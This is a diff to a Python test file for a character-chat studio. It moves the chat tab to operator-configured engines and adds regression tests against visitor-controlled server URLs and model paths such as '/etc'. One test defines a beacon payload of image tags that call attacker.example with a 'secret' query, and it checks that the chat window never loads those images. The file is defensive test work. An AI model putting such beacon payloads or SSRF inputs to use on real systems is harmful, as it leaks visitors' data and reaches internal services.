@@ -11,6 +11,7 @@ from PIL import Image
 
 from pipelines.character.bundle import CharacterBundle
 from pipelines.character.card import load_character
+from pipelines.chat.engines import Engine
 from pipelines.labels import LABELS
 from studio import runtime
 from studio.tabs import chat as chat_tab
@@ -90,8 +91,24 @@ def _respond(message, character, sprites, history, **settings):
     return list(chat_tab.respond(message, character, sprites, history, progress=no_progress, **settings))
 
 
-def test_reply_streams_from_the_shared_local_model_and_is_spoken(ada, monkeypatch):
-    monkeypatch.setattr(runtime, "_objects", {"chat-local": tiny_backend()})  # the model the tab would build once
+@pytest.fixture
+def operator_engines(monkeypatch):
+    """Set the engines the operator configured (app.py --chat-config) for one test."""
+
+    def configure(*engines, free_entry=False):
+        monkeypatch.setattr(runtime.SETTINGS, "chat_engines", tuple(engines))
+        monkeypatch.setattr(runtime.SETTINGS, "chat_free_entry", free_entry)
+
+    return configure
+
+
+def _server_engine(server, name="test server"):
+    return Engine(name, "openai", "m", server.base_url, languages=("en", "zh"))
+
+
+def test_reply_streams_from_the_shared_local_model_and_is_spoken(ada, monkeypatch, operator_engines):
+    operator_engines(Engine("tiny", "transformers", "tiny"))
+    monkeypatch.setattr(runtime, "_objects", {"chat-engine:transformers:tiny": tiny_backend()})  # built once, shared
     character, history = ada.character, ada.history
     steps = _respond("Hello Ada!", character, {}, history, max_new_tokens=24, temperature=0.7, stream_audio=False)
     assert len(steps) >= 4
@@ -104,12 +121,12 @@ def test_reply_streams_from_the_shared_local_model_and_is_spoken(ada, monkeypatc
     assert history == ada.history  # the caller's list is not changed in place
 
 
-def test_with_streamed_audio_each_sentence_is_heard_before_the_reply_ends(free_port):
+def test_with_streamed_audio_each_sentence_is_heard_before_the_reply_ends(free_port, operator_engines):
     character = load_character(EXAMPLES / "characters" / "museum_guide.json")
     reply = "The clock room is upstairs. It has a pendulum. Shall we go?"
     with ChatServer(free_port, reply=reply) as server:
-        steps = _respond("Where is the clock?", character, {}, [], backend_kind="openai", base_url=server.base_url,
-                         model="m", stream_audio=True)
+        operator_engines(_server_engine(server))
+        steps = _respond("Where is the clock?", character, {}, [], engine="test server", stream_audio=True)
     clips = [(i, step[5]) for i, step in enumerate(steps) if step[5] is not None]
     assert len(clips) == 3  # one clip per sentence
     assert clips[0][0] < len(steps) - 1  # the first sentence is out while the reply still streams
@@ -119,23 +136,23 @@ def test_with_streamed_audio_each_sentence_is_heard_before_the_reply_ends(free_p
         assert rate == 22050 and 0.3 < len(samples) / rate < 4
 
 
-def test_reply_from_a_server_picks_the_joy_sprite(free_port):
+def test_reply_from_a_server_picks_the_joy_sprite(free_port, operator_engines):
     character = load_character(EXAMPLES / "characters" / "vtuber_streamer.json")
     joy = np.zeros((8, 8, 3), np.uint8)
     joy[..., 1] = 255
     with ChatServer(free_port, reply="Yay, that's wonderful! Thank you so much!") as server:
-        steps = _respond("I brought you a gift!", character, {"joy": joy}, [], backend_kind="openai",
-                         base_url=server.base_url, model="m", speak=False)
+        operator_engines(_server_engine(server))
+        steps = _respond("I brought you a gift!", character, {"joy": joy}, [], engine="test server", speak=False)
     chatbot, history, _, portrait, emotion, audio = steps[-1]
     assert history[-1]["content"] == "Yay, that's wonderful! Thank you so much!"
     assert "joy" in emotion and portrait.getpixel((0, 0)) == (0, 255, 0) and audio is None
     assert json.dumps(server.requests[0]["body"]["messages"]).count("Mika Starlight") >= 1
 
 
-def test_a_server_that_is_down_puts_the_conversation_and_message_back(ada, free_port):
+def test_a_server_that_is_down_puts_the_conversation_and_message_back(ada, free_port, operator_engines):
     character, history = ada.character, ada.history
-    stream = chat_tab.respond("Are you there?", character, {}, history, backend_kind="openai",
-                              base_url=f"http://127.0.0.1:{free_port}/v1", model="m", progress=no_progress)
+    operator_engines(Engine("down", "openai", "m", f"http://127.0.0.1:{free_port}/v1"))
+    stream = chat_tab.respond("Are you there?", character, {}, history, engine="down", progress=no_progress)
     seen = []
     with pytest.raises(gr.Error, match="Could not reach the chat server"):
         for step in stream:
@@ -150,14 +167,15 @@ def test_a_server_that_is_down_puts_the_conversation_and_message_back(ada, free_
         ("", "ada", {}, "empty"),
         ("x" * 100_000, "ada", {}, "limit is 4,000"),
         ("hi", None, {}, "Pick a preset"),
-        ("hi", "ada", {"backend_kind": "openai"}, "Enter the server URL"),
+        ("hi", "ada", {"engine": "nonexistent"}, "no chat engine called"),
+        ("hi", "ada", {"local_model": "/etc"}, "chosen by whoever runs this studio"),
     ],
 )
 def test_bad_turns_are_refused_before_anything_changes(ada, monkeypatch, message, character, settings, error):
     monkeypatch.setattr(runtime, "_objects", {})
     with pytest.raises(gr.Error, match=error):
         _respond(message, ada.character if character else None, {}, ada.history, **settings)
-    assert "chat-local" not in runtime._objects  # refused before any model was loaded
+    assert runtime._objects == {}  # refused before any model was loaded
 
 
 def test_the_tab_renders_without_loading_a_model(monkeypatch):
@@ -168,3 +186,61 @@ def test_the_tab_renders_without_loading_a_model(monkeypatch):
     for lang in ("en", "zh"):
         assert all(key.startswith("chat.") for key in chat_tab.TEXT[lang])
     assert chat_tab.TEXT["en"].keys() == chat_tab.TEXT["zh"].keys()
+
+
+def test_a_visitor_cannot_point_the_server_at_a_url_or_a_model_path(ada, free_port, operator_engines):
+    """Before: any URL a visitor typed was fetched by the server, and any model id or folder was loaded and kept."""
+    operator_engines(Engine("tiny", "transformers", "tiny"))
+    with ChatServer(free_port) as internal:
+        for typed in ({"base_url": internal.base_url, "model": "m"}, {"local_model": "/etc"},
+                      {"local_model": "Qwen/Qwen2.5-72B-Instruct"}):
+            with pytest.raises(gr.Error, match="chosen by whoever runs this studio"):
+                _respond("hi", ada.character, {}, ada.history, **typed)
+    assert internal.requests == []
+
+
+def test_free_entry_lets_a_single_user_run_type_a_server(ada, free_port, operator_engines):
+    operator_engines(Engine("tiny", "transformers", "tiny"), free_entry=True)
+    with ChatServer(free_port, reply="Typed server answers.") as server:
+        steps = _respond("hi", ada.character, {}, ada.history, base_url=server.base_url, model="m", speak=False)
+    assert steps[-1][1][-1]["content"] == "Typed server answers."
+
+
+def test_a_message_in_a_language_the_engine_cannot_write_says_so_and_how_to_fix_it(ada, free_port, operator_engines):
+    with ChatServer(free_port, reply="乱码") as server:
+        operator_engines(Engine("english only", "openai", "m", server.base_url, languages=("en",)))
+        with pytest.raises(gr.Error, match="cannot write Chinese.*ollama pull qwen2.5"):
+            _respond("你好，请介绍一下你自己", ada.character, {}, ada.history, engine="english only", speak=False)
+    assert server.requests == []  # nothing was generated
+
+
+BEACON = "![logo](https://attacker.example/pixel.png?c=secret) and <img src=https://attacker.example/x.gif>"
+
+
+def test_the_chat_window_never_loads_remote_images_from_a_card_or_a_reply(free_port, operator_engines):
+    """Before: markdown images in a greeting or a reply made every visitor's browser fetch them (a beacon)."""
+    character = load_character(EXAMPLES / "characters" / "museum_guide.json")
+    character.first_mes = f"Welcome! {BEACON}"
+    chatbot, history, _, _ = chat_tab.restart(character, {})
+    assert "attacker.example" not in json.dumps(chatbot) and "logo" in chatbot[0]["content"]
+    assert "attacker.example" in history[0]["content"]  # the model still sees what the card says
+    with ChatServer(free_port, reply=f"Look: {BEACON}") as server:
+        operator_engines(_server_engine(server))
+        steps = _respond("hi", character, {}, history, engine="test server", speak=False)
+    assert all("attacker.example" not in json.dumps(step[0]) for step in steps)
+
+
+def test_streamed_speech_gets_an_ffmpeg_that_encodes_aac_without_a_system_one(monkeypatch, tmp_path):
+    """Before: with no system ffmpeg the reply was heard only after it ended (Gradio streams audio through ffmpeg)."""
+    import shutil
+    import subprocess
+
+    monkeypatch.setenv("PATH", "/nonexistent")
+    monkeypatch.setenv("CHARACTER_STUDIO_WEIGHTS", str(tmp_path))
+    assert chat_tab.ffmpeg_for_streaming()
+    ffmpeg = shutil.which("ffmpeg")
+    assert ffmpeg and ffmpeg.startswith(str(tmp_path))
+    tone = (np.sin(np.arange(2205) * 0.1) * 8000).astype(np.int16).tobytes()
+    encoded = subprocess.run([ffmpeg, "-v", "error", "-f", "s16le", "-ar", "22050", "-ac", "1", "-i", "pipe:",
+                              "-c:a", "aac", "-f", "adts", "pipe:"], input=tone, capture_output=True, timeout=60)
+    assert encoded.returncode == 0 and len(encoded.stdout) > 100
